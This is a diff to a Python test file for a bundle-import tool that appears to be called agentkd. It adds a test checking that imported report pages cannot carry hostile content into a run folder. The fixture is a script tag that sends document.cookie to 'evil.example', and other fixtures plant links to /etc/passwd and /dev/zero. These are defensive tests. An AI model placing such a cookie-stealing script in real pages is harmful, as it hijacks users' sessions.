@@ -14,14 +14,17 @@ import pytest
 from foreign import SOON_S, copied, everybody_ends, honest_run, refusal, zip_of
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
+from typer.testing import CliRunner
 
 from agentkd import canonical
 from agentkd.artifacts import bundle
 from agentkd.artifacts.bundle import unpack, verify_bundle, write_zip
 from agentkd.artifacts.run_folder import RunFolder
+from agentkd.cli.app import app
 from agentkd.config import load_experiment
 from agentkd.errors import AgentKDError, ArtifactError, ConfigError
 from agentkd.report.packing import write_bundle
+from agentkd.report.write import write_report
 
 DIGEST = "ab" * 32
 ARTIFACT = f"artifacts/ab/{DIGEST}.safetensors"
@@ -124,6 +127,26 @@ def test_a_name_with_a_nought_is_refused_though_zip_files_end_there(packed: Path
 def test_names_that_differ_by_case_are_refused(packed: Path, tmp_path: Path) -> None:
     zip_of(tmp_path / "evil.zip", contents(packed) | {"report/A.md": b"x", "report/a.md": b"y"})
     assert refused(tmp_path / "evil.zip") == "report/a.md: has the name of another file but for its capitals"
+
+
+def test_a_strangers_pages_stay_in_the_bundle_and_that_is_said(packed: Path, tmp_path: Path) -> None:
+    page = b"<script>fetch('http://evil.example/' + document.cookie)</script>"
+    pages = {"report/report.html": page, "report/more.svg": page, "cards/0123456789ab.md": page}
+    write_zip(contents(packed) | pages, tmp_path / "theirs.zip")
+    num_pages = len({*pages, *(name for name in contents(packed) if name.startswith(("report/", "cards/")))})
+    assert verify_bundle(tmp_path / "theirs.zip").problems == ()
+    outcome = CliRunner().invoke(app, ["import", str(tmp_path / "theirs.zip"), str(tmp_path / "run")])
+    assert outcome.exit_code == 0, outcome.output
+    said = " ".join(outcome.output.split())
+    assert f"{num_pages} files in report/ and cards/ stay in the bundle" in said
+    assert f"agentkd report {tmp_path / 'run'}" in said
+    files = [path for path in (tmp_path / "run").rglob("*") if path.is_file()]
+    assert files and not any(page in path.read_bytes() for path in files)
+    assert not (tmp_path / "run" / "report").exists() and not (tmp_path / "run" / "cards").exists()
+    made = write_report(RunFolder(tmp_path / "run")).page.read_bytes()
+    assert b"evil.example" not in made and b"<html" in made
+    write_bundle(RunFolder(tmp_path / "run"), tmp_path / "again.zip")
+    assert verify_bundle(tmp_path / "again.zip").problems == ()
 
 
 def _rewritten(packed: Path, out: Path, change: Callable[[bytearray, int], None]) -> None:
@@ -329,14 +352,14 @@ FOLDERS: dict[str, tuple[Callable[[RunFolder], None], str]] = {
         "is no file",
     ),
     "folders in folders": (lambda folder: (folder.store.place / "00" / "a" / "b" / "c").mkdir(parents=True), "is not named"),
-    "a pipe for an experiment": (lambda folder: _pipe(folder.experiment), ""),
-    "a link for an experiment": (lambda folder: _link(folder.experiment, Path("/dev/zero")), ""),
-    "a pipe in the report": (lambda folder: _pipe(folder.report / "table.md"), ""),
-    "a link in the report": (lambda folder: _link(folder.report / "table.md", Path("/etc/passwd")), ""),
+    "a pipe for an experiment": (lambda folder: _pipe(folder.experiment), "experiment.yaml: is a pipe"),
+    "a link for an experiment": (lambda folder: _link(folder.experiment, Path("/dev/zero")), "experiment.yaml: is a link"),
+    "a pipe in the report": (lambda folder: _pipe(folder.report / "table.md"), "table.md: is a pipe"),
+    "a link in the report": (lambda folder: _link(folder.report / "table.md", Path("/etc/passwd")), "table.md: is a link"),
     "a folder in the report": (lambda folder: (folder.report / "more").mkdir(), ""),
     "odd names in the report": (lambda folder: (folder.report / "a\\b\n").write_bytes(b"x"), ""),
     "no journal": (lambda folder: folder.journal.unlink(), "is not a run folder"),
-    "a pipe for a journal": (lambda folder: _pipe(folder.journal), "is not a run folder"),
+    "a pipe for a journal": (lambda folder: _pipe(folder.journal), "journal.sqlite is a pipe"),
 }
 
 
